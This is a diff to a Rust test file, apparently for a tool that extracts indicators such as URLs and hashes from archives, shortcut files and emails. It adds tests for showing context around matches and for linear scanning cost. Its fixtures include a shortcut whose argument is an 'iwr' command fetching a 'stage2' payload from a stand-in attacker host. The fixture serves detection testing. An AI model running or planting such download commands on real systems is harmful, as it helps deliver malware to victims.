@@ -10,6 +10,7 @@ use zip::write::SimpleFileOptions;
 use zip::{AesMode, ZipWriter};
 
 use super::*;
+use crate::cost;
 
 /// A URL that must be found wherever it is.
 const URL: &str = "http://evil.example/stage2";
@@ -440,6 +441,31 @@ fn documents_give_words_links_and_embedded_files() {
     let link = super::document::shortcut::made(&format!("-c \"iwr {URL}\""));
     let (_, found) = opened("a.zip", &plain(&[("a.lnk", &link)]));
     assert!(item(&found, URL).ticked && item(&found, &sha256(&link)).remark.contains("a.lnk in a.zip"), "{found:?}");
+}
+
+#[test]
+fn a_value_in_a_long_line_is_shown_with_what_stands_around_it() {
+    let line = |at: usize| format!("word{at} http://h{at}.example/a ");
+    let text: String = (0..400).map(line).collect();
+    let (_, found) = opened("one line.txt", text.as_bytes());
+    for at in [0, 1, 17, 399] {
+        let context = item(&found, &format!("http://h{at}.example/a")).context;
+        assert!(context.contains(line(at).trim()), "{at}: {context}");
+    }
+}
+
+#[test]
+fn a_mail_of_one_long_line_costs_what_its_length_is() {
+    for (shape, bytes) in
+        [("{}.test,", 1 << 20), ("%68ttp://h{}.ex%61mple/a ", 256 << 10), ("a{}@evil.example ", 256 << 10)]
+    {
+        let cost = |bytes: usize| {
+            let body: String = (0..bytes / shape.len()).map(|at| shape.replace("{}", &at.to_string())).collect();
+            let mail = mail("From: a@b.test", &body, "a.txt", b"x");
+            cost::of(|| opened("a.eml", &mail))
+        };
+        assert!(cost::is_linear(bytes, cost), "{shape}");
+    }
 }
 
 #[test]
